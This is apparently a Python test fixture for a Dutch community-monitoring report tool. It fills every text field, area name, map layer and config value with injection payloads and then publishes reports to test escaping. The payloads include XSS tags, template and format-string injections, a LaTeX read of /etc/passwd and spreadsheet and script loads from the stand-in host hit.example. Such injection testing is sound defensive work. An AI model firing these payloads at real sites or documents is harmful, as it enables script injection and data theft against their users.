"""A package with an attack in every text of all forty tables: a built demonstration in, a hostile workspace out.

The collective is one of the demonstration, so that every section of its report has something to show. What the door
lets in stands in its workbook; names of areas, of tables of statistics and of who publishes are attacks too.
"""

from __future__ import annotations

import copy
import datetime as dt
import json
import os
import re
import shutil
from pathlib import Path
from typing import Any

import geopandas as gpd
import openpyxl

from bt_analysis import bundles, pipeline, report, schema, settings
from bt_analysis.cards import card_hash
from bt_analysis.schema import MONITORING
from bt_analysis.settings import Workspace
from bt_analysis.sources.monitoring import read_package
from tests.fuzz_packages import Sheet, write_workbook
from tests.whole_package import WHOLE

NAME, OTHER = "energie-01", "beweging-01"
FILE = "<img src=x onerror=alert(1)>.xlsx"

MARKUP = (
    "<script>window.__hit=1</script>", "<ScRiPt src=//hit.example/x.js></sCrIpT>", '"><img src=x onerror=__hit=1>',
    "'><svg/onload=__hit=1>", "<iframe src=javascript:parent.__hit=1></iframe>", "<body onload=__hit=1>",
    "</title><script>__hit=1</script>", "</style><script>__hit=1</script>", "</svg><img src=x onerror=__hit=1>",
    "</textarea><x-hit>", "<a href=javascript:__hit=1>klik</a>", "<math><mi href=javascript:__hit=1>x</mi></math>",
    '" onmouseover="__hit=1', "' onfocus='__hit=1' autofocus='", "x onpointerenter=__hit=1 y", "]]><x-hit>",
    "<details open ontoggle=__hit=1>", "<svg><animate onbegin=__hit=1 attributeName=x dur=1s>", "<!--><x-hit>-->",
    "<svg><foreignObject><x-hit></foreignObject></svg>", "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//hit.example/x.css>", "<base href=//hit.example/>", "</td></tr></table><x-hit>",
    "<meta http-equiv=refresh content=0;url=//hit.example/>", "<form action=//hit.example/><input autofocus></form>",
    "<object data=//hit.example/x></object>", "<embed src=//hit.example/x>", "<template><x-hit></template>",
    "<video src=//hit.example/x onerror=__hit=1>", "<input onfocus=__hit=1 autofocus>",
    "red;background:url(//hit.example/x.png)",
)  # fmt: skip
"""Text that lives wherever it is not escaped: in a page, in an attribute, in a style or in a drawing."""
CODES = (
    "&lt;script&gt;__hit=1&lt;/script&gt;", "&#60;x-hit&#62;", "{{7*7}}{% raw %}", "${7*7}#{7*7}",
    "{n} {0.__class__} %(n)s %d", r"$\alpha$ en $x_{$ \input{/etc/passwd}", "[bold red]x[/] **x** `x` :smile:",
    'zie =HYPERLINK("http://hit.example";"x")',
)  # fmt: skip
"""Text that lives where it is filled in, drawn as a formula or counted on."""
PAYLOADS = MARKUP + CODES
EVERYTHING = " ".join(PAYLOADS)
ADDRESSES = (
    'https://hit.example/"onmouseover="__hit=1', "https://hit.example/'><x-hit>", "http://hit.example/</script><x-hit>",
    "https://hit.example/${7*7}{{7*7}}",
)  # fmt: skip
"""Attacks that pass for an address."""

BOUND = {
    ("work_area", "area_codes"), ("work_area", "postcodes"), ("work_area", "polygon_file"), ("area", "parent_code"),
    ("participation", "group_value"), ("response_item", "respondent_key"), ("response_item", "item_code"),
    ("response_item", "answer"), ("bundle", "tables"),
}  # fmt: skip
"""Texts that other cells hang on, so that a package with attacks there has nothing to show."""


def attack(row: int, column: int) -> str:
    """Return all attacks in one text; another one begins it in each row and column."""
    at = (row + 7 * column) % len(PAYLOADS)
    return " ".join((*PAYLOADS[at:], *PAYLOADS[:at]))


def texts_of(table: str) -> list[str]:
    """Return the columns of a table in which people type what they like."""
    fields = schema.load(table)["fields"]
    rules = {field["name"]: field.get("constraints", {}) for field in fields if field["type"] == "string"}
    return [name for name, rule in rules.items() if not {"enum", "pattern"} & set(rule) and (table, name) not in BOUND]


def addresses_of(table: str) -> list[str]:
    """Return the columns of a table that hold an address."""
    fields = schema.load(table)["fields"]
    return [field["name"] for field in fields if "https?" in field.get("constraints", {}).get("pattern", "")]


def poisoned(tables: dict[str, list[dict[str, Any]]]) -> dict[str, list[dict[str, Any]]]:
    """Put attacks in every text and every address."""
    found = copy.deepcopy(tables)
    first = found["participation"][0]
    more = [{"group_type": "taal", "group_value": attack(at, 0), "contacts_n": 300, "unique_n": 150} for at in (0, 9)]
    found["participation"] += [{**first, **row, "first_time_n": None} for row in more]
    for table, rows in found.items():
        consent = [field["name"] for field in schema.load(table)["fields"] if field["name"] == "text_consent"]
        for at, row in enumerate(rows):
            row.update(dict.fromkeys(consent, "ja"))
            # A group that few inputs come from may not travel, so all come from the same.
            starts = {name: 0 if (table, name) == ("input", "group_value") else at for name in texts_of(table)}
            row.update({name: attack(start, column) for column, (name, start) in enumerate(starts.items())})
            row.update({name: ADDRESSES[at % len(ADDRESSES)] for name in addresses_of(table)})
    for row in found["experiment"]:
        row["card_hash"] = card_hash(row)
    return found


def delivered(book: Path) -> dict[str, list[dict[str, Any]]]:
    """Read the workbook of a demonstration's collective, and add the tables that it does not keep."""
    sheets = openpyxl.load_workbook(book, read_only=True)
    tables: dict[str, list[dict[str, Any]]] = {}
    for name in [name for name in MONITORING if name in sheets.sheetnames]:
        header, *rows = sheets[name].iter_rows(values_only=True)
        tables[name] = [dict(zip(map(str, header), row, strict=True)) for row in rows]
    tables |= {name: _own(name) for name in MONITORING if name not in tables}
    first = tables["work_area"][0]
    tables["source"] = [{"source_id": "enquete", "title": "Enquête"}]
    tables["area"] = [
        {"area_code": "hofje", "area_year": first["area_year"], "level": "eigen", "parent_code": "BU99010100"}
    ]
    tables["claim"] = [
        {"claim_id": row["claim_id"], "report_id": NAME, "section": "opbrengst", "plain_nl": "x"}
        for row in tables["return_event"]
    ]
    tables["input_link"] = [{"from_input": "i1", "to_input": "i2", "type": "samengevoegd"}]
    tables["response_item"] = [
        {"wave_id": "bewoners-2023", "respondent_key": "k1", "item_code": "trots_1", "answer": "5"}
    ]
    tables["survey_wave"][0]["instrument_ids"] = "srh_1;eigen_lijst"
    return tables


def _own(table: str) -> list[dict[str, Any]]:
    """Return the rows of the whole package as rows of this collective."""
    return [{name: NAME if text == "zon" else text for name, text in row.items()} for row in WHOLE[table]]


def published(built_demo: Path, root: Path) -> Path:
    """Build a workspace of a hostile collective and one other, bundle both, and publish; at full count more reports."""
    shutil.copytree(built_demo, root)
    monitoring = Workspace(root).monitoring
    for folder in [folder for folder in monitoring.iterdir() if folder.name not in (NAME, OTHER)]:
        shutil.rmtree(folder)
    tables = poisoned(delivered(monitoring / NAME / f"{NAME}.xlsx"))
    (monitoring / NAME / f"{NAME}.xlsx").unlink()
    write_workbook({name: sheet(name, rows) for name, rows in tables.items()}, monitoring / NAME / FILE)
    poison_places(root)
    poison_settings(root)
    here = settings.load(root)
    built = pipeline.build(Workspace(root), here)
    assert built.refused == {}
    assert built.collectives == (OTHER, NAME)
    # Without a bundle it would not be in the cross-domain report, and its attacks would not be tried there.
    consent = bundles.Consent("collective", dt.date(2024, 12, 19), "openbaar", dt.date(2100, 1, 1))
    bundles.make(Workspace(root), here, read_package(monitoring / NAME, None), consent)
    pipeline.build_across(Workspace(root), here)
    asked = [(NAME, "nl"), (report.ACROSS, "nl")] + ([(OTHER, "en"), (NAME, "en")] if os.environ.get("BT_FULL") else [])
    done = [report.publish(Workspace(root), here, [name], lang=lang, jobs=1) for name, lang in asked]
    assert {outcome.error for outcomes in done for outcome in outcomes} == {""}
    return root


def sheet(name: str, rows: list[dict[str, Any]]) -> Sheet:
    """Return rows as a sheet, with the columns in the order in which they are first named."""
    columns = list(dict.fromkeys(column for row in rows for column in row))
    return Sheet(name, [columns, *([row.get(column) for column in columns] for row in rows)], title=name)


def poison_places(root: Path) -> None:
    """Put attacks in the names of buurten, wijken and gemeente, in statistics and on maps, and in titles of tables."""
    for path in sorted((Workspace(root).raw / "cbs").glob("*/WijkenEnBuurten.json")):
        regions = json.loads(path.read_text(encoding="utf-8"))
        for region in regions:
            region["Title"] = region["Description"] = attack(int(region["Key"].strip()[2:]), 0)
        path.write_text(json.dumps(regions), encoding="utf-8")
        (info,) = json.loads((path.parent / "TableInfos.json").read_text(encoding="utf-8"))
        info |= {"Title": f"{info['Title']} {attack(0, 0)}", "ShortTitle": attack(1, 0), "Summary": attack(2, 0)}
        (path.parent / "TableInfos.json").write_text(json.dumps([info]), encoding="utf-8")
    for path in sorted((Workspace(root).raw / "boundaries").glob("*/buurten.gpkg")):
        outlines = gpd.read_file(path)
        outlines["buurtnaam"] = [attack(int(code[2:]), 0) for code in outlines["buurtcode"]]
        path.unlink()
        outlines.to_file(path, layer="buurten", driver="GPKG")


def poison_settings(root: Path) -> None:
    """Put attacks in every text of bt.toml."""
    written = Workspace(root).config.read_text(encoding="utf-8")
    for at, key in enumerate(("publisher", "licence")):
        (line,) = re.findall(f"(?m)^{key} = .*$", written)
        written = written.replace(line, f"{key} = {_toml(attack(at, 0))}")
    names = {name: _toml(attack(at, 1)) for at, name in enumerate(("title", "publisher", "contact_name", "licence"))}
    written += "\n[archive]\n" + "".join(f"{name} = {text}\n" for name, text in names.items())
    urls = {"publisher_url": ADDRESSES[1], "licence_url": ADDRESSES[2], "access_url": ADDRESSES[3]}
    written += "".join(f"{name} = {_toml(url)}\n" for name, url in urls.items())
    Workspace(root).config.write_text(written, encoding="utf-8")


def _toml(text: str) -> str:
    return json.dumps(text)
